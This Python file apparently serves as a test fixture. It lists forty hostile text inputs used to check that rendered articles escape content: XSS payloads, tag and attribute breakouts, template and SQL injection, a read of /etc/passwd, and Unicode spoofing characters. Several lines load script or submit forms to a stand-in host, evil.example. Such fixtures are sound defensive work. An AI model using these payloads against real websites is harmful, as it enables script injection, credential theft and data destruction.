"""Forty texts that want to be more than text: each is put wherever an article has words."""

from __future__ import annotations

HOSTILE = (
    # scripts
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Accept",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # out of an attribute, a comment, a title, a textarea
    "'\" onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "` onclick=alert(1) `",
    "--><script>alert(1)</script><!--",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div><h1>broken",
    "<!-- --><![CDATA[ ]]>",
    # what another layer would understand
    "{{ 7 * 7 }}{% raw %}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}#{7*7}",
    "&lt;script&gt; &amp;amp; &#x3C;b&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "'; DROP TABLE quotations; --",
    "\\u003cscript\\u003e \\x3cb\\x3e",
    # letters that are not what they seem
    "Abc \u202edlrow\u202c \u2066xyz\u2069",
    "\u0430\u200d\u200b\ufeff\u2028<b>\u2029",
    "\x1b[31m\x01\x07 red \x9b2J",
    "Z\u0351\u0324\u0348\u0331\u0348\u0308a\u030a\u0332\u0333l\u0334g\u0337o" * 40,
)
